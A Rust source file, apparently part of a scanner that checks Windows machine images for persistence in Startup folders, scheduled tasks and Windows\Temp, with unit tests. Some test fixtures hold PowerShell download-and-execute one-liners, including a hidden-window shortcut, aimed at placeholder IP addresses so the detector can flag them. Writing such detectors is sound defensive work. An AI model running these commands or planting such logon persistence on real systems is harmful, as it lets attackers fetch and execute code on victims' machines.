//! Windows persistence in files, the counterpart of the Linux autostart checks for what is not
//! in the registry (`windows_autoruns` reads the Run keys and services):
//!
//! - **Startup folders** (`ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp` for every
//!   user, `Users\<u>\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup` for one):
//!   a program, script or shortcut there runs at logon. `windows-startup-item`, medium: a
//!   stock Windows Server image has none (only `desktop.ini`), so whatever a publisher left
//!   runs in every instance; high when the script downloads code and runs it. Shortcuts
//!   (`.lnk`) are read (`lnk`: the Shell Link's target and arguments) and judged as the
//!   command they run: `windows-startup-shortcut`, high when it downloads code and runs it or
//!   runs encoded PowerShell, medium when its program is in a user-writable directory, info
//!   otherwise (the inventory: what it runs is named). A `.lnk` that is not a readable Shell
//!   Link stays a medium `windows-startup-item`, its error named.
//! - **Scheduled tasks** (`Windows\System32\Tasks\**`, the XML Task Scheduler writes, UTF-16 or
//!   UTF-8): a task whose principal logs on with a stored password (`<LogonType>Password`) —
//!   Windows keeps that password as an LSA secret in the image, decryptable offline —
//!   `windows-task-password`, high; an `<Exec>` action that downloads code and runs it, runs
//!   encoded PowerShell or runs a program from a user-writable directory (see
//!   `windows_command`), `windows-task-command`, high (a known miner: `miner-trace`,
//!   critical). Other tasks are not listed: a stock image has about a hundred.
//! - **`Windows\Temp`**: a PE executable (`MZ` and a `PE\0\0` header where `e_lfanew` points)
//!   left there, `windows-temp-executable`, medium: installers and droppers land there; a
//!   generalized image has none. Judged by content, not by name.
//!
//! Known miner names (`xmrig.exe`…) anywhere are the miner family's (`miner-trace`).

use super::{CheckHit, CheckRule, clip, file_name, lnk, miner, windows_command};
use crate::detect::registry::pattern::{self, Glob, glob_nocase};
use crate::report::Severity;

/// A program, script or shortcut in a Startup folder.
pub(crate) const STARTUP_RULE: CheckRule = CheckRule {
    id: "windows-startup-item",
    title: "Program or script in a Windows Startup folder (runs at logon)",
    severity: Severity::Medium,
    remediation: "Remove the file from the Startup folder (`Remove-Item`) unless it is a vetted part of the image; configure what must run at logon through Group Policy or a scheduled task created at launch instead.",
    suppresses: &[],
};

/// A shortcut in a Startup folder, judged by what it runs.
pub(crate) const SHORTCUT_RULE: CheckRule = CheckRule {
    id: "windows-startup-shortcut",
    title: "Shortcut in a Windows Startup folder (its target runs at logon)",
    severity: Severity::Info,
    remediation: "Remove the shortcut from the Startup folder (`Remove-Item`) unless it is a vetted part of the image; a shortcut that fetches code or runs a program from a folder users can write is a persistence mechanism. Configure what must run at logon through Group Policy or a scheduled task created at launch instead.",
    suppresses: &[],
};

/// A scheduled task with a stored password.
pub(crate) const TASK_PASSWORD_RULE: CheckRule = CheckRule {
    id: "windows-task-password",
    title: "Scheduled task stores its account's password (LogonType Password)",
    severity: Severity::High,
    remediation: "Recreate the task to run as SYSTEM, a virtual or group-managed service account, or with `-LogonType S4U` (`Register-ScheduledTask`), or create it at instance launch; the stored password is an LSA secret of the image, decryptable offline. Change the account's password.",
    suppresses: &[],
};

/// A scheduled task that runs downloaded code or a program users may replace.
pub(crate) const TASK_COMMAND_RULE: CheckRule = CheckRule {
    id: "windows-task-command",
    title: "Scheduled task downloads code and runs it, or runs a program from a user-writable directory",
    severity: Severity::High,
    remediation: "Delete the task (`Unregister-ScheduledTask`) unless it is a vetted part of the image; install its program under `C:\\Program Files` at build time instead of fetching code on a schedule or running it from a folder users can write.",
    suppresses: &[],
};

/// A PE executable in `Windows\Temp`.
pub(crate) const TEMP_EXE_RULE: CheckRule = CheckRule {
    id: "windows-temp-executable",
    title: "Executable left in Windows\\Temp",
    severity: Severity::Medium,
    remediation: "Delete it (`Remove-Item C:\\Windows\\Temp\\*`) before capturing the image, and find out what put it there; generalized images carry nothing in Windows\\Temp.",
    suppresses: &[],
};

/// Every rule of the family.
pub(crate) const RULES: &[CheckRule] = &[
    STARTUP_RULE,
    SHORTCUT_RULE,
    TASK_PASSWORD_RULE,
    TASK_COMMAND_RULE,
    TEMP_EXE_RULE,
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Startup,
    Task,
    Temp,
}

const SCOPED: [(Glob, Kind); 4] = [
    (
        glob_nocase("/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/**"),
        Kind::Startup,
    ),
    (
        glob_nocase("/Users/*/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/**"),
        Kind::Startup,
    ),
    (glob_nocase("/Windows/System32/Tasks/**"), Kind::Task),
    (glob_nocase("/Windows/Temp/**"), Kind::Temp),
];

/// The files this check reads.
pub(crate) const SCOPE: [Glob; SCOPED.len()] = pattern::globs(&SCOPED);

/// What runs when a Startup folder's file is opened: programs, scripts, shortcuts, installers.
const STARTUP_EXT: &[&str] = &[
    "exe", "com", "scr", "pif", "bat", "cmd", "ps1", "vbs", "vbe", "js", "jse", "wsf", "wsh",
    "hta", "lnk", "url", "msi", "dll", "cpl", "jar",
];

/// Findings for one file.
pub(crate) fn check(path: &str, data: &[u8]) -> Vec<CheckHit> {
    match pattern::kind_of(&SCOPED, path) {
        Some(Kind::Startup) => startup(path, data),
        Some(Kind::Task) => task(path, data),
        Some(Kind::Temp) => temp(data),
        None => Vec::new(),
    }
}

/// Whether `data` is a PE image: `MZ`, and `PE\0\0` at `e_lfanew`.
fn is_pe(data: &[u8]) -> bool {
    if !data.starts_with(b"MZ") {
        return false;
    }
    let Some(lfanew) = data
        .get(0x3C..0x40)
        .map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]))
        .and_then(|n| usize::try_from(n).ok())
    else {
        return false;
    };
    data.get(lfanew..lfanew.saturating_add(4)) == Some(b"PE\0\0")
}

fn startup(path: &str, data: &[u8]) -> Vec<CheckHit> {
    let name = file_name(path);
    let ext = name
        .rsplit_once('.')
        .map(|(_, e)| e.to_ascii_lowercase())
        .unwrap_or_default();
    if !(STARTUP_EXT.contains(&ext.as_str()) || is_pe(data)) {
        return Vec::new();
    }
    let whose = if path
        .get(..7)
        .is_some_and(|p| p.eq_ignore_ascii_case("/Users/"))
    {
        let user = path.get(7..).unwrap_or("").split('/').next().unwrap_or("");
        format!("the Startup folder of {}", clip(user, 64))
    } else {
        "the all-users Startup folder".to_string()
    };
    let note = if ext == "lnk" && !is_pe(data) {
        match lnk::parse(data) {
            Ok(link) => return shortcut(name, &whose, &link),
            Err(e) => format!(" ({e})"),
        }
    } else {
        String::new()
    };
    let what = if is_pe(data) {
        "program".to_string()
    } else if ext == "lnk" {
        "shortcut".to_string()
    } else {
        format!(".{} file", clip(&ext, 8))
    };
    let text = String::from_utf8_lossy(data);
    let download = windows_command::judge(&text).download;
    let (severity, why) = match download {
        Some(why) if !is_pe(data) => (Severity::High, format!(": {why}")),
        _ => (STARTUP_RULE.severity, String::new()),
    };
    vec![CheckHit::file(
        &STARTUP_RULE,
        severity,
        format!(
            "{what} `{}` in {whose}, run at every logon{why}{note}",
            clip(name, 80)
        ),
        data,
    )]
}

/// The finding for a readable shortcut `name` in `whose` Startup folder.
fn shortcut(name: &str, whose: &str, link: &lnk::Shortcut) -> Vec<CheckHit> {
    let fp = |line: &str| format!("{name}\0{line}");
    let Some(target) = link.target() else {
        let why = link
            .id_list_unread
            .as_deref()
            .unwrap_or("no LinkInfo, environment block, shell item or relative path names it");
        return vec![CheckHit::file(
            &SHORTCUT_RULE,
            Severity::Medium,
            format!(
                "shortcut `{}` in {whose}, run at every logon; its target is not read: {why}",
                clip(name, 80)
            ),
            fp(why).as_bytes(),
        )];
    };
    let args = link.arguments.as_deref().unwrap_or("");
    // A program path with a space is quoted, as Windows would need it on a command line.
    let program = if target.contains(' ') && !target.starts_with('"') {
        format!("\"{target}\"")
    } else {
        target.to_string()
    };
    let line = if args.is_empty() {
        program
    } else {
        format!("{program} {args}")
    };
    let fp = fp(&line);
    let name = clip(name, 80);
    let j = windows_command::judge(&line);
    let shown = windows_command::shown(&line);
    let (rule, severity, why) = if let Some(m) = j.miner {
        (&miner::RULE, miner::RULE.severity, format!(": a {m}"))
    } else if let Some(why) = j.download {
        (&SHORTCUT_RULE, Severity::High, format!(": {why}"))
    } else if let Some(dir) = j.writable {
        (
            &SHORTCUT_RULE,
            Severity::Medium,
            format!(": its program is in {dir}, which users may write by default"),
        )
    } else {
        (&SHORTCUT_RULE, SHORTCUT_RULE.severity, String::new())
    };
    vec![CheckHit::file(
        rule,
        severity,
        format!("shortcut `{name}` in {whose} runs {shown} at every logon{why}"),
        fp.as_bytes(),
    )]
}

/// `data` as text: UTF-16LE after a BOM (what Task Scheduler writes), else UTF-8.
fn decode(data: &[u8]) -> String {
    if let Some(rest) = data.strip_prefix(&[0xFF, 0xFE]) {
        let units: Vec<u16> = rest
            .chunks_exact(2)
            .map(|p| u16::from_le_bytes([p[0], p[1]]))
            .collect();
        return String::from_utf16_lossy(&units);
    }
    let rest = data.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(data);
    String::from_utf8_lossy(rest).into_owned()
}

/// The text of every `<tag>…</tag>` element in `xml` (no nesting of the same tag), entities
/// decoded.
fn elements<'a>(xml: &'a str, tag: &str) -> Vec<String> {
    let open = format!("<{tag}>");
    let close = format!("</{tag}>");
    let mut out = Vec::new();
    let mut rest: &'a str = xml;
    while let Some(i) = rest.find(&open) {
        let after = &rest[i + open.len()..];
        let Some(j) = after.find(&close) else { break };
        out.push(unescape(after[..j].trim()));
        rest = &after[j + close.len()..];
        if out.len() >= 1024 {
            break;
        }
    }
    out
}

fn unescape(s: &str) -> String {
    s.replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

fn task(path: &str, data: &[u8]) -> Vec<CheckHit> {
    let xml = decode(data);
    if !xml.contains("<Task") {
        return Vec::new();
    }
    let name = path
        .get(
            path.to_ascii_lowercase()
                .find("/tasks/")
                .map_or(0, |i| i + 6)..,
        )
        .unwrap_or(path)
        .replace('/', "\\");
    let name = clip(&name, 100);
    let mut hits = Vec::new();
    if elements(&xml, "LogonType")
        .iter()
        .any(|t| t.eq_ignore_ascii_case("Password"))
    {
        let user = elements(&xml, "UserId")
            .into_iter()
            .next()
            .unwrap_or_else(|| "an account".into());
        hits.push(CheckHit::file(
            &TASK_PASSWORD_RULE,
            TASK_PASSWORD_RULE.severity,
            format!(
                "task {name} runs as {} with its password stored (LogonType Password)",
                clip(&user, 64)
            ),
            format!("{name}\0{user}").as_bytes(),
        ));
    }
    for exec in elements(&xml, "Exec") {
        let command = elements(&exec, "Command")
            .into_iter()
            .next()
            .unwrap_or_default();
        if command.is_empty() {
            continue;
        }
        let args = elements(&exec, "Arguments")
            .into_iter()
            .next()
            .unwrap_or_default();
        let line = if args.is_empty() {
            command.clone()
        } else if command.contains(' ') && !command.starts_with('"') {
            format!("\"{command}\" {args}")
        } else {
            format!("{command} {args}")
        };
        let j = windows_command::judge(&line);
        let shown = windows_command::shown(&line);
        let fp = format!("{name}\0{line}");
        let hit = if let Some(m) = j.miner {
            Some((&miner::RULE, format!("task {name} runs a {m}: {shown}")))
        } else if let Some(why) = j.download {
            Some((&TASK_COMMAND_RULE, format!("task {name}: {why}: {shown}")))
        } else {
            j.writable.map(|dir| {
                (
                    &TASK_COMMAND_RULE,
                    format!(
                        "task {name} runs a program in {dir}, which users may write by default: {shown}"
                    ),
                )
            })
        };
        if let Some((rule, evidence)) = hit {
            hits.push(CheckHit::file(rule, rule.severity, evidence, fp.as_bytes()));
        }
    }
    hits
}

fn temp(data: &[u8]) -> Vec<CheckHit> {
    if !is_pe(data) {
        return Vec::new();
    }
    vec![CheckHit::file(
        &TEMP_EXE_RULE,
        TEMP_EXE_RULE.severity,
        "PE executable in Windows\\Temp".to_string(),
        data,
    )]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pe() -> Vec<u8> {
        let mut b = vec![0u8; 0x100];
        b[..2].copy_from_slice(b"MZ");
        b[0x3C..0x40].copy_from_slice(&0x80u32.to_le_bytes());
        b[0x80..0x84].copy_from_slice(b"PE\0\0");
        b
    }

    fn utf16(s: &str) -> Vec<u8> {
        [0xFF, 0xFE]
            .into_iter()
            .chain(s.encode_utf16().flat_map(u16::to_le_bytes))
            .collect()
    }

    fn applies(path: &str) -> bool {
        crate::detect::registry::check_for(path) == Some(super::super::Check::WindowsPersistence)
    }

    fn task_xml(logon: &str, command: &str, args: &str) -> String {
        format!(
            r#"<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Principals><Principal id="Author"><UserId>EC2AMAZ-BUILD\deploy</UserId><LogonType>{logon}</LogonType><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
  <Actions Context="Author"><Exec><Command>{command}</Command><Arguments>{args}</Arguments></Exec></Actions>
</Task>"#
        )
    }

    #[test]
    fn scope() {
        assert!(applies(
            "/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/run.bat"
        ));
        assert!(applies(
            "/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/a.lnk"
        ));
        assert!(applies(
            "/Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag"
        ));
        assert!(applies("/WINDOWS/Temp/setup.exe"));
        assert!(!applies("/Windows/System32/cmd.exe"));
    }

    #[test]
    fn startup_items() {
        let d = "/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp";
        assert!(check(&format!("{d}/desktop.ini"), b"[.ShellClassInfo]\r\n").is_empty());
        let h = check(&format!("{d}/agent.exe"), &pe());
        assert_eq!(h.len(), 1);
        assert_eq!(h[0].severity, Severity::Medium);
        assert_eq!(
            h[0].evidence,
            "program `agent.exe` in the all-users Startup folder, run at every logon"
        );
        let h = check(
            "/Users/bob/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/u.ps1",
            b"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/x')\r\n",
        );
        assert_eq!(h[0].severity, Severity::High);
        assert!(
            h[0].evidence
                .starts_with(".ps1 file `u.ps1` in the Startup folder of bob")
        );
    }

    #[test]
    fn startup_shortcuts_are_read_and_judged() {
        use super::super::lnk::tests::build;
        let d = "/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp";
        let h = check(
            &format!("{d}/Sync.lnk"),
            &build(
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                "-nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.4/a')\"",
                None,
            ),
        );
        assert_eq!(h.len(), 1);
        assert_eq!(
            (h[0].rule, h[0].severity),
            ("windows-startup-shortcut", Severity::High)
        );
        assert!(
            h[0].evidence.starts_with(
                r"shortcut `Sync.lnk` in the all-users Startup folder runs C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -nop -w hidden"
            ),
            "{}",
            h[0].evidence
        );
        let u = "/Users/bob/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup";
        let h = check(
            &format!("{u}/helper.lnk"),
            &build(r"C:\Users\bob\AppData\Local\Helper\helper.exe", "", None),
        );
        assert_eq!(
            (h[0].rule, h[0].severity),
            ("windows-startup-shortcut", Severity::Medium)
        );
        assert!(
            h[0].evidence.contains("Startup folder of bob"),
            "{}",
            h[0].evidence
        );
        // A vetted program: the inventory, at info.
        let h = check(
            &format!("{d}/Notepad.lnk"),
            &build(
                r"C:\Windows\System32\notepad.exe",
                "",
                Some(r"%windir%\system32\notepad.exe"),
            ),
        );
        assert_eq!(
            (h[0].rule, h[0].severity),
            ("windows-startup-shortcut", Severity::Info)
        );
        assert_eq!(
            h[0].evidence,
            r"shortcut `Notepad.lnk` in the all-users Startup folder runs C:\Windows\System32\notepad.exe at every logon"
        );
        // The target only in the shell items (no LinkInfo, no relative path): resolved and
        // judged; an item that is not read leaves the target unread, the item named.
        use super::super::lnk::tests::{file_item, root_item, shell_only, volume_item};
        let my_computer = [
            0xE0, 0x4F, 0xD0, 0x20, 0xEA, 0x3A, 0x69, 0x10, 0xA2, 0xD8, 0x08, 0x00, 0x2B, 0x30,
            0x30, 0x9D,
        ];
        let items = [
            root_item(my_computer),
            volume_item("C:\\"),
            file_item(true, "Users", false, Some((9, "Users"))),
            file_item(true, "Public", false, Some((9, "Public"))),
            file_item(false, "UPDATE~1.EXE", false, Some((9, "updater.exe"))),
        ];
        let h = check(&format!("{d}/Updater.lnk"), &shell_only(&items, "--silent"));
        assert_eq!(
            (h[0].rule, h[0].severity, h[0].evidence.as_str()),
            (
                "windows-startup-shortcut",
                Severity::Medium,
                r"shortcut `Updater.lnk` in the all-users Startup folder runs C:\Users\Public\updater.exe --silent at every logon: its program is in a user profile, which users may write by default"
            )
        );
        let h = check(
            &format!("{d}/Docs.lnk"),
            &shell_only(&[root_item([0x11; 16])], ""),
        );
        assert_eq!(
            (h[0].rule, h[0].severity, h[0].evidence.as_str()),
            (
                "windows-startup-shortcut",
                Severity::Medium,
                "shortcut `Docs.lnk` in the all-users Startup folder, run at every logon; its target is not read: shell item 1 of its ID list is a root folder (type 0x1F) {11111111-1111-1111-1111-111111111111}, not read"
            )
        );
        // Not a Shell Link: still a Startup item, its error named.
        let h = check(&format!("{d}/x.lnk"), b"not a link");
        assert_eq!(
            (h[0].rule, h[0].severity),
            ("windows-startup-item", Severity::Medium)
        );
        assert!(
            h[0].evidence
                .ends_with("(not a Shell Link (no 0x4C header with the ShellLink class id))"),
            "{}",
            h[0].evidence
        );
    }

    #[test]
    fn tasks_with_a_password_or_a_download() {
        let p = "/Windows/System32/Tasks/Build/Nightly";
        let h = check(
            p,
            &utf16(&task_xml("Password", r"C:\Program Files\App\app.exe", "")),
        );
        assert_eq!(h.len(), 1);
        assert_eq!(h[0].rule, "windows-task-password");
        assert_eq!(
            h[0].evidence,
            r"task \Build\Nightly runs as EC2AMAZ-BUILD\deploy with its password stored (LogonType Password)"
        );
        let h = check(
            p,
            task_xml(
                "S4U",
                "powershell.exe",
                "-nop -c &quot;IEX (iwr http://203.0.113.5/t.ps1)&quot;",
            )
            .as_bytes(),
        );
        assert_eq!(h.len(), 1);
        assert_eq!(h[0].rule, "windows-task-command");
        let h = check(
            p,
            &utf16(&task_xml("InteractiveToken", r"C:\Users\Public\u.exe", "")),
        );
        assert_eq!(h[0].rule, "windows-task-command");
        assert!(
            h[0].evidence.contains("a user profile"),
            "{}",
            h[0].evidence
        );
        // A stock task.
        let h = check(
            p,
            &utf16(&task_xml(
                "S4U",
                r"%windir%\system32\defrag.exe",
                "-c -h -o",
            )),
        );
        assert!(h.is_empty(), "{h:?}");
    }

    #[test]
    fn pe_files_in_windows_temp() {
        assert_eq!(
            check("/Windows/Temp/setup.exe", &pe())[0].rule,
            "windows-temp-executable"
        );
        assert!(check("/Windows/Temp/random.exe", &[0x4D, 0x5A, 1, 2, 3]).is_empty());
        assert!(check("/Windows/Temp/log.txt", b"MZ is not a PE").is_empty());
    }
}
